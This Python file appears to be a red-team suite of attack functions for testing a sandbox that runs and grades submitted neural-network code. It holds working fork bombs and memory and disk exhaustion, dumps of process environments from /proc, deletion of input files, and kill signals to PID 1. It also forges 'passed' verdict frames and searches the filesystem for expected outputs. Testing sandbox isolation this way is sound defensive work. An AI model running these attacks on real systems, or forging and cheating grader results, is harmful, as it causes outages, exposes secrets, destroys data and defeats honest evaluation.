"""The attacks, each a function that gets the network's input; uploaded in front of `architecture.py`, never imported here.

What they print is the box's own words.
"""

# ruff: noqa: BLE001, PTH118, PTH123, PTH208, T201, ANN - an attacker minds neither exceptions nor style

import ctypes
import json
import os
import shutil
import signal
import socket
import struct
import sys
import threading
import time

import numpy as np
import torch

CLAIM = {"outcome": "passed", "message": "it is right, believe me", "detail": ""}


def tried(function, *arguments):
    """What came of it, printed: the attack goes on either way."""
    try:
        answer = repr(function(*arguments))[:200]
    except BaseException as error:
        answer = f"{type(error).__name__}: {error}"
    print(f"tried {getattr(function, '__name__', function)}{arguments!r}"[:200], "->", answer[:200], flush=True)


def loops(raw):
    while True:
        pass


def sleeps(raw):
    time.sleep(3600)


def forks(raw):
    """Every child forks on; the first process counts how far that goes."""
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)


def threads(raw):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


def asks_for_100_gb(raw):
    bytearray(100 * 1024**3)


def takes_100_gb(raw):
    hoard = []
    while len(hoard) < 100 * 64:
        hoard.append(b"x" * 16 * 1024**2)


def tensor_of_100_gb(raw):
    return torch.ones(100 * 1024**3 // 4)


def fills_disk(raw):
    """Many files, so that no limit of one file's size comes first."""
    for number in range(100_000):
        with open(f"/tmp/full-{number}", "wb") as file:
            file.write(b"x" * 4 * 1024**2)


def one_huge_file(raw):
    with open("/tmp/huge", "wb") as file:
        while True:
            file.write(b"x" * 4 * 1024**2)


def prints_10_gb(raw):
    piece = "spam and eggs " * 100_000
    for _ in range(10 * 1024**3 // len(piece)):
        print(piece)


def opens_sockets(raw):
    tried(socket.create_connection, ("1.1.1.1", 53), 3)
    tried(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    tried(socket.getaddrinfo, "example.org", 80)


def insists_on_a_socket(raw):
    socket.create_connection(("1.1.1.1", 53), 3)


def reads_proc(raw):
    print("HOARD", dict(os.environ))
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "maps", "mountinfo"):
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    print("HOARD", process, name, file.read()[:1500])
            except OSError as error:
                print("HOARD", process, name, error)


def deletes_inputs(raw):
    for name in os.listdir("/in"):
        tried(os.chmod, f"/in/{name}", 0o777)
        tried(os.unlink, f"/in/{name}")
        tried(os.truncate, f"/in/{name}", 0)
        tried(os.rename, f"/in/{name}", "/tmp/gone")
    shutil.rmtree("/in", ignore_errors=True)
    print("left in /in:", sorted(os.listdir("/in")))


def kills_its_parent(raw):
    """The box's first process and everything that may be above it."""
    for process in (1, os.getppid(), os.getpid(), -1):
        tried(os.kill, process, signal.SIGKILL)
    print("still here", flush=True)


def stops_the_first(raw):
    """Ends the interpreter from a child, by the signals that it has handlers for, as often as it takes."""
    if os.fork() == 0:
        while True:
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP):
                os.kill(1, number)
            time.sleep(2)
    time.sleep(600)


def leaves_a_child(raw):
    """A process that holds every descriptor open and outlives its parent."""
    if os.fork() == 0:
        time.sleep(3600)


def exits_without_a_word(raw):
    os._exit(0)


def exits_politely(raw):
    sys.exit(0)


def segfaults(raw):
    ctypes.string_at(0)


def aborts(raw):
    os.abort()


def frame(name, payload):
    return struct.pack(">IQ", len(name.encode()), len(payload)) + name.encode() + payload


def produced():
    said = {"loads": CLAIM, "runs": CLAIM, "seconds": {}, "versions": {}, "warnings": [], "traceback": ""}
    return frame("produced", json.dumps(said).encode())


def npy(array):
    import io

    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def everywhere(data):
    """Into every descriptor that takes it: one of them is the protocol's own."""
    for name in os.listdir("/proc/self/fd"):
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(int(name), view) :]
        except OSError:
            continue


def forges_success(raw):
    """All frames of a success, with a guess at the output: right shape, plausible mean and spread."""
    guess = np.random.default_rng(0).normal(0.2, 0.3, raw.shape).clip(0, 1).astype(np.float32)
    done = frame("done", json.dumps({"seconds": {}, "peak_memory_bytes": 1}).encode())
    everywhere(produced() + frame("tensor-0", npy(guess)) + done)
    os._exit(0)


def forges_and_goes_on(raw):
    everywhere(produced())


def forges_the_verdict(raw):
    everywhere(frame("verdict", json.dumps({"reproduces": CLAIM, "tensors": []}).encode()))
    os._exit(0)


def writes_1_gb_report(raw):
    everywhere(struct.pack(">IQ", 8, 1024**3) + b"produced")
    piece = b'"' + b"x" * 1024**2
    for _ in range(1024):
        everywhere(piece)


def claims_a_large_report(raw):
    everywhere(frame("produced", b'"' + b"x" * 300 * 1024 + b'"'))
    os._exit(0)


def searches_expected(raw):
    """Any array but the input, anywhere; what it finds it returns."""
    found, looked = [], 0
    roots = [
        "/",
        *(f"/proc/{one}/{part}" for one in filter(str.isdigit, os.listdir("/proc")) for part in ("root", "cwd")),
    ]
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [one for one in folders if os.path.join(folder, one) not in {"/proc", "/sys"}]
            for name in names:
                looked += 1
                path = os.path.join(folder, name)
                if name.endswith(".npy") or ("output" in name and "/opt/job" not in folder and "/usr" not in folder):
                    found.append(path)
    for target in ("/root", "/srv", "/var/lib/docker", "/host"):
        tried(os.listdir, target)
    arrays = [path for path in sorted(set(found)) if path.endswith(".npy")]
    print("LOOKED", looked > 1000, "FOUND", arrays, flush=True)
    loaded = [np.load(path) for path in arrays]
    same = [one for one in loaded if one.shape == tuple(raw.shape) and not np.array_equal(one, raw.numpy())]
    return torch.from_numpy(same[0]) if same else raw


def other_shape(raw):
    return raw[..., :32, :32]


def not_a_number(raw):
    return torch.full_like(raw, float("nan"))
